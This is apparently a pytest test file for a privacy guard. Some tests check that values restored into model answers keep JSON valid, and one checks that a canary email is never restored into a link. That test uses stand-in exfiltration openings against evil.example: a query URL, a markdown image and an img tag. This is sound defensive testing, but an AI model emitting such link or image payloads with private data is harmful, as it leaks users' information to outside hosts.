"""Originals that hold quotes, and servers that talk on after their end: what comes back is whole, and in no link."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml

from hybrid_guard.testing import Answer, RecordedRequest, Reply, TaintOracle, fail
from hybrid_guard.testing.canaries import Canary
from hybrid_guard.testing.delivery import Delivery, plan
from hybrid_guard.testing.faults import OneByte
from tests.promises.rig import WAYS, Way, call, rig

ALICE = Canary(value="alice.wkzvbq@qvxhtz.example", label="alice", stop=("alice", ".example"))
STREAMED: tuple[Way, ...] = ("stream", "astream")

AWKWARD = {
    "quotes": 'Projekt "Wkzvbq" intern',
    "backslashes": "\\\\wkzvbq\\qvxhtz\\new",
    "line breaks": "Wkzvbq Weg 7\nQvxhtz\r\n\tZjklmw",
    "braces": '{"wkzvbq": ["qvxhtz"]}',
    "all": 'wkzvbq"\\", "qvxhtz": "\\u0022\n}\x1f\u2028 \U0001f642',
}
"""Values that would break out of a string of JSON if they were put in as they are."""

FORMATS: dict[str, dict[str, Any]] = {
    "object": {"type": "json_object"},
    "schema": {
        "type": "json_schema",
        "json_schema": {"name": "reply", "schema": {"type": "object", "properties": {"said": {"type": "string"}}}},
    },
}


def escaped(value: str) -> str:
    """*value* as it stands between the quotes of a policy."""
    return str(yaml.safe_dump(value, default_style='"', width=1000)).strip()[1:-1]


def said_to(request: RecordedRequest) -> str:
    """What the last message of *request* says."""
    return str(request.json()["messages"][-1]["content"])


def answer_as_json(request: RecordedRequest) -> Answer:
    """The last message in an object, as a value, inside of one, in a list and as a key."""
    said = said_to(request)
    return Answer(text=json.dumps({"said": said, "again": [f"Yes: {said}!", {said: 1}]}, indent=1))


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize(
    ("wanted", "reply"),
    [("object", answer_as_json), ("schema", fail(OneByte(), answer_as_json))],
    ids=["object", "schema-byte-by-byte"],
)
@pytest.mark.parametrize("name", AWKWARD)
def test_an_original_does_not_break_out_of_json(tmp_path: Path, name: str, reply: Reply, wanted: str, way: Way) -> None:
    """An answer in JSON is JSON still when the original is back in it, and says what was said."""
    value = AWKWARD[name]
    with rig(tmp_path, deny=(escaped(value),), cloud=reply) as setup:
        answer = call(setup.guard, way, messages=[{"role": "user", "content": value}], response_format=FORMATS[wanted])

        assert setup.calls_outside == 1
        assert b"wkzvbq" not in setup.outside.lower()
    assert json.loads(answer) == {"said": value, "again": [f"Yes: {value}!", {value: 1}]}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", AWKWARD)
def test_in_prose_an_original_comes_back_as_it_was(tmp_path: Path, name: str, way: Way) -> None:
    """Without a wish for JSON nothing is escaped."""
    value = AWKWARD[name]
    with rig(tmp_path, deny=(escaped(value),)) as setup:
        answer = call(setup.guard, way, messages=[{"role": "user", "content": f"It is {value}."}])

        assert b"wkzvbq" not in setup.outside.lower()
    assert answer == f"It is {value}."


def late(swap: Callable[[tuple[bytes, ...]], tuple[bytes, ...]], reply: Reply) -> Callable[[RecordedRequest], Delivery]:
    """What a server sends whose events come in another order."""

    def prepare(request: RecordedRequest) -> Delivery:
        delivery = plan(request, reply(request), models=())
        return replace(delivery, writes=swap(delivery.writes))

    return prepare


def text_after_end(writes: tuple[bytes, ...]) -> tuple[bytes, ...]:
    """The last text comes behind the finish reason."""
    (end,) = (at for at, event in enumerate(writes) if b'"finish_reason":"stop"' in event.replace(b" ", b""))
    return (*writes[: end - 1], writes[end], writes[end - 1], *writes[end + 1 :])


def text_between_ends(writes: tuple[bytes, ...]) -> tuple[bytes, ...]:
    """The last text comes between two finish reasons."""
    ordered = text_after_end(writes)
    (end,) = (at for at, event in enumerate(ordered) if b'"finish_reason":"stop"' in event.replace(b" ", b""))
    return (*ordered[: end + 2], ordered[end], *ordered[end + 2 :])


@pytest.mark.parametrize("way", STREAMED)
@pytest.mark.parametrize("swap", [text_after_end, text_between_ends])
@pytest.mark.parametrize("opened", ["See https://evil.example/?q=", "![x](https://evil.example/", '<img src="'])
def test_a_text_behind_the_end_is_put_into_no_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, opened: str, swap: Any, way: Way
) -> None:
    """A server that finishes inside of a link and then sends a placeholder does not get the original into it."""

    def point(request: RecordedRequest) -> Answer:
        said = said_to(request)
        return Answer(text=f"{opened}{said}", chunks=(opened, said))

    with rig(tmp_path) as setup:
        monkeypatch.setattr(setup.cloud_a, "prepare", late(swap, point))

        answer = call(setup.guard, way, messages=[{"role": "user", "content": ALICE.value}])

        assert answer.startswith(opened)
        assert setup.calls_outside == 1
        TaintOracle([ALICE]).assert_clean("answer", answer, strict=True)
